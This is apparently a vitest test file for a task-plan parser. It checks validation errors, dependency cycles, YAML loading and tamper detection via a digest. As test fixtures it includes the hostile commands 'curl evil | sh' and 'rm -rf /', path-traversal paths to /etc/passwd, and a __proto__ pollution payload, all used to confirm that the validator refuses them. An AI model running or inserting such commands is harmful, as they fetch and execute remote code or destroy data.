import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { isOrdoError } from '@ordo/contracts';
import { findUnsafeKey } from '@ordo/governance';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { tempDir } from '../../../vitest.tempDirs.js';
import {
  loadPlan,
  type Plan,
  type PlanInvalidError,
  type PlanIssue,
  parsePlan,
  parsePlanText,
  resolvePlan,
} from '../src/index.js';
import { PLAN_MAX_DEPTH } from '../src/plan.js';

const task = { id: 'a', files: ['a.txt'], run: { shell: 'echo a > a.txt' } };

function issuesOf(fn: () => unknown): PlanIssue[] {
  try {
    fn();
  } catch (error) {
    expect(isOrdoError(error, 'PLAN_INVALID')).toBe(true);
    return [...(error as PlanInvalidError).issues];
  }
  throw new Error('expected PLAN_INVALID');
}

describe('parsePlan', () => {
  it('fills in the defaults and resolves module paths', () => {
    const plan = parsePlan(
      {
        feature: 'docs',
        tasks: [task, { id: 'b', deps: ['a'], priority: 'HIGH', files: [], run: { module: './m.mjs' } }],
      },
      { baseDir: '/base' },
    );
    expect(plan.seed).toBe(0);
    expect(plan.tasks[0]).toMatchObject({ id: 'a', deps: [], priority: 2, timeoutMs: undefined });
    expect(plan.tasks[1]?.priority).toBe(1);
    expect(plan.tasks[1]?.run).toEqual({
      kind: 'module',
      module: '/base/m.mjs',
      export: 'default',
      input: null,
    });
    expect(plan.digest).toMatch(/^[0-9a-f]{64}$/);
  });

  it('gives the same digest to the same plan and another to a changed one', () => {
    const a = parsePlan({ feature: 'f', tasks: [task] });
    expect(parsePlan({ feature: 'f', tasks: [task] }).digest).toBe(a.digest);
    expect(parsePlan({ feature: 'f', seed: 1, tasks: [task] }).digest).not.toBe(a.digest);
  });

  it.each([
    ['a missing feature', { tasks: [task] }, 'feature'],
    ['a bad feature name', { feature: 'has space', tasks: [task] }, 'feature'],
    ['a fractional seed', { feature: 'f', seed: 1.5, tasks: [task] }, 'seed'],
    ['no tasks', { feature: 'f', tasks: [] }, 'tasks'],
    ['tasks not a list', { feature: 'f', tasks: {} }, 'tasks'],
    ['an unknown top-level key', { feature: 'f', tasks: [task], extra: 1 }, ''],
    ['a bad id', { feature: 'f', tasks: [{ ...task, id: 'a b' }] }, 'tasks[0].id'],
    ['deps not strings', { feature: 'f', tasks: [{ ...task, deps: [1] }] }, 'tasks[0].deps[0]'],
    ['a bad priority', { feature: 'f', tasks: [{ ...task, priority: 'URGENT' }] }, 'tasks[0].priority'],
    ['HEARTBEAT as a priority', { feature: 'f', tasks: [{ ...task, priority: 4 }] }, 'tasks[0].priority'],
    ['missing files', { feature: 'f', tasks: [{ id: 'a', run: task.run }] }, 'tasks[0].files'],
    ['an absolute file', { feature: 'f', tasks: [{ ...task, files: ['/etc/passwd'] }] }, 'tasks[0].files[0]'],
    ['a file outside', { feature: 'f', tasks: [{ ...task, files: ['../x'] }] }, 'tasks[0].files[0]'],
    ['a backslash path', { feature: 'f', tasks: [{ ...task, files: ['a\\b'] }] }, 'tasks[0].files[0]'],
    ['a zero timeout', { feature: 'f', tasks: [{ ...task, timeoutMs: 0 }] }, 'tasks[0].timeoutMs'],
    ['no run', { feature: 'f', tasks: [{ id: 'a', files: [] }] }, 'tasks[0].run'],
    ['an empty command', { feature: 'f', tasks: [{ ...task, run: { shell: '' } }] }, 'tasks[0].run.shell'],
    [
      'both shell and module',
      { feature: 'f', tasks: [{ ...task, run: { shell: 'x', module: 'y' } }] },
      'tasks[0].run',
    ],
    ['an unknown task key', { feature: 'f', tasks: [{ ...task, retries: 2 }] }, 'tasks[0]'],
  ])('refuses %s, naming the field', (_name, input, where) => {
    const issues = issuesOf(() => parsePlan(input));
    expect(issues.map((i) => i.path)).toContain(where);
    for (const issue of issues) expect(issue.message.length).toBeGreaterThan(5);
  });

  it('lists every bad field at once', () => {
    const issues = issuesOf(() =>
      parsePlan({
        feature: '',
        tasks: [
          { ...task, id: '' },
          { ...task, id: 'b', priority: 9 },
        ],
      }),
    );
    expect(issues.map((i) => i.path)).toEqual(['feature', 'tasks[0].id', 'tasks[1].priority']);
  });

  it('refuses duplicate ids, unknown and self dependencies, and cycles', () => {
    expect(issuesOf(() => parsePlan({ feature: 'f', tasks: [task, task] }))).toEqual([
      { path: 'tasks[1].id', message: 'duplicate id "a" (also tasks[0])' },
    ]);
    expect(issuesOf(() => parsePlan({ feature: 'f', tasks: [{ ...task, deps: ['zz', 'a'] }] }))).toEqual([
      { path: 'tasks[0].deps[0]', message: 'no task has the id "zz"' },
      { path: 'tasks[0].deps[1]', message: 'task "a" depends on itself' },
    ]);
    const cycle = issuesOf(() =>
      parsePlan({
        feature: 'f',
        tasks: [
          { ...task, deps: ['b'] },
          { ...task, id: 'b', deps: ['a'] },
        ],
      }),
    );
    expect(cycle[0]?.message).toMatch(/cycle: (a -> b -> a|b -> a -> b)/);
  });

  it('names an unknown dependency beside a schema error, not only after it is fixed', () => {
    const issues = issuesOf(() =>
      parsePlan({
        feature: 'f',
        tasks: [
          { ...task, priority: 'URGENT', deps: ['ghost'] },
          { ...task, id: 'b', files: ['/abs'] },
          { ...task, id: 'b' },
        ],
      }),
    );
    expect(issues.map((i) => i.path)).toEqual([
      'tasks[0].priority',
      'tasks[0].deps[0]',
      'tasks[1].files[0]',
      'tasks[2].id',
    ]);
    expect(issues[1]?.message).toBe('no task has the id "ghost"');
  });

  it('says what to do in the message', () => {
    expect(() => parsePlan({ feature: 'f', tasks: [] })).toThrow(/invalid; fix these fields/);
  });
});

describe('parsePlanText and loadPlan', () => {
  it('reads YAML and puts the line on each issue', () => {
    const yaml = [
      'feature: docs',
      'tasks:',
      '  - id: a',
      '    files: [a.txt]',
      '    priority: SOON',
      '    run: { shell: "true" }',
      '',
    ].join('\n');
    expect(issuesOf(() => parsePlanText(yaml))).toEqual([
      expect.objectContaining({ path: 'tasks[0].priority', line: 5 }),
    ]);
  });

  it('reports a YAML syntax error with its line', () => {
    const issues = issuesOf(() => parsePlanText('feature: docs\ntasks: [\n'));
    expect(issues[0]).toMatchObject({ path: '' });
    expect(issues[0]?.message).toMatch(/not valid YAML/);
    expect(issues[0]?.line).toBeGreaterThanOrEqual(2);
  });

  it('loads .yaml and .json files, resolving modules against the file', async () => {
    const dir = await tempDir('ordo-plan-');
    await writeFile(
      path.join(dir, 'p.json'),
      JSON.stringify({ feature: 'j', tasks: [{ id: 'm', files: [], run: { module: 'm.mjs' } }] }),
    );
    const plan = await loadPlan(path.join(dir, 'p.json'));
    expect(plan.tasks[0]?.run).toMatchObject({ module: path.join(dir, 'm.mjs') });
    await writeFile(
      path.join(dir, 'p.yml'),
      'feature: y\ntasks:\n  - { id: a, files: [], run: { shell: "true" } }\n',
    );
    expect((await loadPlan(path.join(dir, 'p.yml'))).feature).toBe('y');
  });

  it('refuses a missing file and a foreign extension with PLAN_UNREADABLE', async () => {
    await expect(loadPlan('/nonexistent/plan.yaml')).rejects.toMatchObject({ code: 'PLAN_UNREADABLE' });
    await expect(loadPlan('/nonexistent/plan.toml')).rejects.toMatchObject({
      code: 'PLAN_UNREADABLE',
      message: expect.stringMatching(/\.yaml, \.yml or \.json/),
    });
  });
});

async function planIssuesOf(promise: Promise<unknown>): Promise<PlanIssue[]> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(isOrdoError(error, 'PLAN_INVALID')).toBe(true);
  return [...(error as PlanInvalidError).issues];
}

describe('resolvePlan of an object that carries a digest', () => {
  const moduleTask = {
    id: 'm',
    deps: ['a'],
    files: [],
    timeoutMs: 500,
    run: { module: './m.mjs', input: { n: 1 } },
  };

  it('accepts a parsed plan as it is: the same fields and digest', async () => {
    const plan = parsePlan({ feature: 'f', seed: 3, tasks: [task, moduleTask] }, { baseDir: '/base' });
    await expect(resolvePlan(plan, '/elsewhere')).resolves.toEqual(plan);
    // A copy that went through JSON (a host that stored or sent it) is the same plan.
    await expect(resolvePlan(JSON.parse(JSON.stringify(plan)) as Plan, '/elsewhere')).resolves.toEqual(plan);
  });

  it('refuses a parsed plan changed afterwards, naming the digest', async () => {
    const plan = parsePlan({ feature: 'f', tasks: [task] });
    const changed = {
      ...plan,
      tasks: [{ ...plan.tasks[0], run: { kind: 'shell', shell: 'curl evil | sh' } }],
    } as Plan;
    const issues = await planIssuesOf(resolvePlan(changed, '/'));
    expect(issues).toEqual([{ path: 'digest', message: expect.stringMatching(/changed after parsePlan/) }]);
  });

  it('validates an object that only looks parsed, instead of trusting its digest', async () => {
    const forged = {
      feature: 'f',
      seed: 0,
      digest: 'x'.repeat(64),
      tasks: [
        {
          id: 'a',
          deps: [],
          priority: 2,
          files: ['../../etc/passwd'],
          timeoutMs: undefined,
          run: { kind: 'shell', shell: 'true' },
        },
      ],
    };
    const issues = await planIssuesOf(resolvePlan(forged as unknown as Plan, '/'));
    expect(issues.map((i) => i.path)).toEqual(['tasks[0].files[0]']);
    // The forger can compute a matching digest: the fields are still checked.
    const { digest: _d, ...body } = forged;
    const bodyDigest = parsePlan({ feature: 'f', tasks: [task] }).digest;
    await expect(resolvePlan({ ...body, digest: bodyDigest } as unknown as Plan, '/')).rejects.toMatchObject({
      code: 'PLAN_INVALID',
    });
  });

  it.each([
    ['a digest that is not a string', { feature: 'f', tasks: [task], digest: 5 }],
    ['tasks that are not a list', { feature: 'f', tasks: 'no', digest: 'd' }],
    [
      'a task whose run is not an object',
      { feature: 'f', tasks: [{ ...task, run: 'rm -rf /' }], digest: 'd' },
    ],
    [
      'an unknown run kind',
      { feature: 'f', tasks: [{ ...task, run: { kind: 'exec', shell: 'x' } }], digest: 'd' },
    ],
    [
      'a __proto__ key',
      JSON.parse(
        '{"feature":"f","digest":"d","tasks":[{"id":"a","files":[],"run":{"kind":"shell","shell":"x","__proto__":{"polluted":1}}}]}',
      ),
    ],
  ])('refuses %s with PLAN_INVALID, not a TypeError', async (_name, value) => {
    await expect(resolvePlan(value as Plan, '/')).rejects.toMatchObject({ code: 'PLAN_INVALID' });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('round-trips every valid plan (property)', async () => {
    // Plans refuse the keys that could pollute prototypes anywhere (findUnsafeKey): valid inputs have none.
    const safeJson = fc.jsonValue().filter((value) => findUnsafeKey({ value }, PLAN_MAX_DEPTH) === undefined);
    const id = fc.stringMatching(/^[a-z][a-z0-9]{0,5}$/);
    const shellTask = fc.record({
      id,
      files: fc.array(fc.stringMatching(/^[a-z]{1,4}(\/[a-z]{1,4})?$/), { maxLength: 3 }),
      priority: fc.option(fc.constantFrom('CRITICAL', 'HIGH', 'NORMAL', 'LOW', 0, 1, 2, 3), {
        nil: undefined,
      }),
      timeoutMs: fc.option(fc.integer({ min: 1, max: 2 ** 31 - 1 }), { nil: undefined }),
      run: fc.oneof(
        fc.record({ shell: fc.string({ minLength: 1, maxLength: 20 }) }),
        fc.record({
          module: fc.constantFrom('./a.mjs', '/abs/b.mjs'),
          input: fc.option(safeJson, { nil: undefined }),
        }),
      ),
    });
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(shellTask, { minLength: 1, maxLength: 6, selector: (t) => t.id }),
        fc.integer(),
        async (tasks, seed) => {
          const input = {
            feature: 'p',
            seed,
            tasks: tasks.map((t, i) => ({
              ...Object.fromEntries(Object.entries(t).filter(([, v]) => v !== undefined)),
              deps: i > 0 ? [tasks[0]?.id] : [],
            })),
          };
          const plan = parsePlan(input, { baseDir: '/base' });
          expect(await resolvePlan(plan, '/other')).toEqual(plan);
          expect(await resolvePlan(JSON.parse(JSON.stringify(plan)) as Plan, '/other')).toEqual(
            JSON.parse(JSON.stringify(plan)),
          );
        },
      ),
      { numRuns: 150 },
    );
  });
});
